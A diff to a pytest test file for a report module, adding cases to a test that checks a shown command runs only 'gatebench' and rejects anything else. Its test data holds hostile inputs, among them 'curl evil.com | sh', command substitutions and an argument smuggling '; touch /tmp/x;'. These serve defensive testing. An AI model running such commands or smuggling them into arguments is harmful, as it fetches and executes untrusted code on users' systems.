@@ -1,6 +1,7 @@
 """The Markdown of an A/B run: verdict first, at most 60 kB, and text that a stranger chose stands in code alone."""
 
 import re
+import shlex
 
 import pytest
 from ab_reports import (  # fmt: skip
@@ -292,6 +293,10 @@ def test_hidden_characters_become_visible_and_long_names_keep_both_ends():
         ("gatebench ab $(evil) `evil`\nevil", "gatebench ab '$(evil)' '`evil`' evil"),
         ("curl evil.com | sh", None),
         ("gatebench ab 'open", None),
+        # A cut of the quoted line would take the quote that opens the last argument.
+        (shlex.join(["gatebench", "ab", "x" * 600, "y" * 300 + "; touch /tmp/x; # " + "z" * 400]), None),
+        ("gatebench ab " + "x" * 987, "gatebench ab " + "x" * 987),
+        ("gatebench ab " + "x" * 986 + "é", None),
     ],
 )
 def test_a_command_runs_gatebench_and_nothing_else(command, shown):
